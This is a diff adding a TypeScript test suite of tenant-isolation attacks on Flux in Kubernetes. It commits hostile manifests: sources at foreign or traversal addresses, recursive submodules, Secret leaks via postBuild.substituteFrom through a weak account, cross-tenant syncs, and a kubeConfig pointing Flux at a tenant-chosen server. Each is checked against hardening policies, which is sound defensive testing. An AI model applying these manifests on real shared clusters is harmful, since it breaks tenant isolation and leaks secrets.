@@ -1,0 +1,255 @@
+/** Attacks by Flux' own objects: sources, syncs, charts, resource sets, notifications. */
+import {
+  type Attack,
+  at,
+  core,
+  type Guard,
+  type Manifest,
+  manifests,
+  of,
+  type Tenant,
+} from './attack.ts';
+
+const source = 'source.toolkit.fluxcd.io/v1';
+const kustomize = 'kustomize.toolkit.fluxcd.io/v1';
+const operator = 'fluxcd.controlplane.io/v1';
+const rbac = 'rbac.authorization.k8s.io/v1';
+
+type Harm = NonNullable<Attack['harm']>;
+
+const madeClusterRole: Harm = async (t, see) =>
+  (await see(at.cluster(rbac, 'clusterroles', `${t.namespace}-made`))) !== undefined;
+const made: Harm = async (t, see) =>
+  (await see(at.core(t.namespace, 'configmaps', 'made'))) !== undefined;
+
+/** A source of another address than the allowed ones. */
+const foreign = (
+  name: string,
+  attempt: string,
+  kind: string,
+  plural: string,
+  spec: (t: Tenant) => object,
+  says = /is no source that this tenant may use/,
+): Attack => ({
+  name,
+  attempt,
+  commit: (t) =>
+    manifests(
+      of(source, kind, { name: 'attack', namespace: t.namespace }, { interval: '1h', ...spec(t) }),
+    ),
+  harm: async (t, see) =>
+    (await see(at.group(source, t.namespace, plural, 'attack'))) !== undefined,
+  reference: 'nobody',
+  hardened: 'policy tenant-sources',
+  says,
+});
+
+const branch = { branch: 'main' };
+
+const sourceAttacks: Attack[] = [
+  foreign(
+    'source-elsewhere',
+    'a GitRepository of any address',
+    'GitRepository',
+    'gitrepositories',
+    (t) => ({
+      url: `${t.elsewhere}/taken`,
+      ref: branch,
+    }),
+  ),
+  foreign(
+    'source-prefix',
+    'an owner whose name begins like the allowed one',
+    'GitRepository',
+    'gitrepositories',
+    (t) => ({
+      url: `${t.url.slice(0, t.url.lastIndexOf('/'))}-too/taken`,
+      ref: branch,
+    }),
+  ),
+  foreign(
+    'source-dots',
+    'an address that leaves the allowed one by ..',
+    'GitRepository',
+    'gitrepositories',
+    (t) => ({
+      url: `${t.url}/../../other/taken`,
+      ref: branch,
+    }),
+  ),
+  foreign(
+    'source-submodules',
+    'submodules, which are fetched from anywhere',
+    'GitRepository',
+    'gitrepositories',
+    (t) => ({ url: t.url, ref: branch, recurseSubmodules: true }),
+    /recurseSubmodules/,
+  ),
+  foreign(
+    'source-oci',
+    'an OCIRepository of any address',
+    'OCIRepository',
+    'ocirepositories',
+    () => ({
+      url: 'oci://example.invalid/taken',
+    }),
+  ),
+  foreign(
+    'source-helm',
+    'a HelmRepository of any address',
+    'HelmRepository',
+    'helmrepositories',
+    (t) => ({
+      url: t.elsewhere,
+    }),
+  ),
+  foreign('source-bucket', 'a Bucket of any address', 'Bucket', 'buckets', () => ({
+    endpoint: 'example.invalid',
+    bucketName: 'taken',
+  })),
+  {
+    name: 'source-inputs',
+    attempt: 'a ResourceSetInputProvider that reads from any address',
+    commit: (t) =>
+      manifests(
+        of(
+          operator,
+          'ResourceSetInputProvider',
+          { name: 'attack', namespace: t.namespace },
+          {
+            type: 'GitHubBranch',
+            url: 'https://example.invalid/taken/away',
+          },
+        ),
+      ),
+    harm: async (t, see) =>
+      (await see(at.group(operator, t.namespace, 'resourcesetinputproviders', 'attack'))) !==
+      undefined,
+    reference: 'nobody',
+    hardened: 'policy tenant-sources',
+  },
+];
+
+/** An inner Kustomization that applies the folder `inner` beside the tenants'. */
+const inner = (t: Tenant, spec: object, folder = 'inner'): Manifest =>
+  of(
+    kustomize,
+    'Kustomization',
+    { name: 'attack', namespace: t.namespace },
+    {
+      interval: '20m0s',
+      retryInterval: '20s',
+      prune: true,
+      path: `./${folder}`,
+      sourceRef: { kind: 'GitRepository', name: t.repo },
+      ...spec,
+    },
+  );
+
+const syncAttack = (
+  name: string,
+  attempt: string,
+  reference: Guard,
+  says: RegExp,
+  spec: (t: Tenant) => object,
+  harm: Harm,
+  folder: string,
+  also: (t: Tenant) => Manifest[] = () => [],
+): Attack => ({
+  name,
+  attempt,
+  commit: (t) => manifests(inner(t, spec(t), folder), ...also(t)),
+  harm,
+  reference,
+  hardened: 'policy tenant-syncs',
+  says,
+});
+
+const ownAccount = /set spec.serviceAccountName to /;
+
+const syncAttacks: Attack[] = [
+  syncAttack(
+    'sync-no-account',
+    'a sync without a service account',
+    'Flux lockdown',
+    ownAccount,
+    () => ({}),
+    madeClusterRole,
+    'inner/sync-no-account',
+  ),
+  syncAttack(
+    'sync-weak-account',
+    'a Secret read by an account that may not, through postBuild.substituteFrom',
+    'nobody',
+    ownAccount,
+    () => ({
+      serviceAccountName: 'weak',
+      postBuild: { substituteFrom: [{ kind: 'Secret', name: 'credentials' }] },
+    }),
+    async (t, see) =>
+      (await see(at.core(t.namespace, 'configmaps', 'leaked')))?.data.password === 'secret',
+    'inner/leak',
+    ({ namespace }) => [
+      core('ServiceAccount', { name: 'weak', namespace }),
+      core('Secret', { name: 'credentials', namespace }, { stringData: { password: 'secret' } }),
+      of(rbac, 'Role', { name: 'weak', namespace }, undefined, {
+        rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['*'] }],
+      }),
+      of(rbac, 'RoleBinding', { name: 'weak', namespace }, undefined, {
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'weak' },
+        subjects: [{ kind: 'ServiceAccount', name: 'weak', namespace }],
+      }),
+    ],
+  ),
+  syncAttack(
+    'sync-foreign-source',
+    'a sync from the repository of another tenant',
+    'Flux lockdown',
+    /leave namespace out/,
+    (t) => ({
+      serviceAccountName: t.namespace,
+      targetNamespace: t.namespace,
+      sourceRef: { kind: 'GitRepository', name: t.repo, namespace: t.victim },
+    }),
+    made,
+    'inner/made',
+  ),
+  syncAttack(
+    'sync-foreign-target',
+    'a sync into the namespace of another tenant',
+    'RBAC',
+    /leave namespace out/,
+    (t) => ({ serviceAccountName: t.namespace, targetNamespace: t.victim }),
+    async (t, see) => (await see(at.core(t.victim, 'configmaps', 'made'))) !== undefined,
+    'inner/made',
+  ),
+  syncAttack(
+    'sync-kubeconfig',
+    'a kubeConfig Secret: Flux talks to an address of the tenant’s choice',
+    'nobody',
+    /leave it out/,
+    (t) => ({ serviceAccountName: t.namespace, kubeConfig: { secretRef: { name: 'kubeconfig' } } }),
+    async (t, see) => (await see(`seen:${t.namespace}`)) !== undefined,
+    'inner/made',
+    ({ namespace, elsewhere }) => [
+      core(
+        'Secret',
+        { name: 'kubeconfig', namespace },
+        { stringData: { value: kubeconfig(`${elsewhere}/${namespace}`) } },
+      ),
+    ],
+  ),
+];
+
+/** A kubeconfig for a server that is not the cluster's. */
+const kubeconfig = (server: string): string =>
+  JSON.stringify({
+    apiVersion: 'v1',
+    kind: 'Config',
+    clusters: [{ name: 'attack', cluster: { server } }],
+    users: [{ name: 'attack', user: { token: 'attack' } }],
+    contexts: [{ name: 'attack', context: { cluster: 'attack', user: 'attack' } }],
+    'current-context': 'attack',
+  });
+
+export const syncAndSourceAttacks = [...sourceAttacks, ...syncAttacks];
